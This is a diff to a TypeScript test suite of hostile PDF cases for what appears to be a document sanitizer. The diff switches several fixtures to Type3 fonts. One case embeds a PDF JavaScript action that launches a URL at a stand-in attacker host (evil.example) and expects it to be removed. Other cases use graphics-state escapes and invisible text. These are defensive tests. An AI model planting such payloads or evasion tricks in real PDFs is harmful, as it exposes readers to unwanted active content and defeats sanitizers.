@@ -32,6 +32,8 @@ import {
   selfReferencingObjects,
   selfReferencingPageTree,
   streamObject,
+  type3Font,
+  type3Glyph,
   visibleText,
   zipWith,
 } from '../fixtures/hostile-pdfs.ts';
@@ -146,8 +148,9 @@ export const cases: HostileCase[] = [
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
     streamObject(`BT /F1 14 Tf 72 420 Td (${visibleText}) Tj ET`),
-    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    type3Font(7),
     `<< /S /JavaScript /JS (app.launchURL\\("https://evil.example/${markers.js}"\\)) >>`,
+    type3Glyph,
   ]))]), expect: accepted(1, { text: visibleText, findings: ['javascript_removed'], absent: activeContent }) },
   { group: 'pdf content', name: 'content stream with more Q than q (escapes the save/restore wrapping)', build: async () => form([pdf(onePagePdf(escapingContent))]), expect: accepted(1, { text: visibleText }) },
   { group: 'pdf content', name: 'surplus Q, then invisible text and a clip (no CTM change)', build: async () => form([pdf(onePagePdf('Q Q 3 Tr 0 0 1 1 re W n'))]), expect: accepted(1, { text: visibleText }) },
@@ -156,8 +159,9 @@ export const cases: HostileCase[] = [
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> /Contents 4 0 R >>',
     streamObject(`BT /F1 14 Tf 72 420 Td (${visibleText}) Tj ET /Fm1 Do`),
-    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    type3Font(7),
     streamObject(escapingContent, '/Type /XObject /Subtype /Form /BBox [0 0 595 842]'),
+    type3Glyph,
   ]))]), expect: accepted(1, { text: visibleText }) },
   { group: 'pdf content', name: 'saves hidden in an array and a dictionary do not pay for surplus Q', build: async () => form([pdf(onePagePdf('[q q q q] /P << /K q /L [q q] >> BDC EMC Q Q Q Q 3 Tr 0 0 1 1 re W n'))]), expect: accepted(1, { text: visibleText }) },
   { group: 'pdf content', name: 'opaque annotation reaching over the page edge, where the marking goes', build: async () => form([pdf(onePagePdf('', '/Annots [6 0 R 7 0 R]', {}, [
@@ -172,8 +176,9 @@ export const cases: HostileCase[] = [
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents [4 0 R 6 0 R] >>',
     streamObject(`q BT /F1 14 Tf 72 420 Td (${visibleText}) Tj`),
-    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    type3Font(7),
     streamObject(`ET Q ${escapingContent}`),
+    type3Glyph,
   ]))]), expect: accepted(1, { text: visibleText }) },
 
   // Polyglots and lying names/types
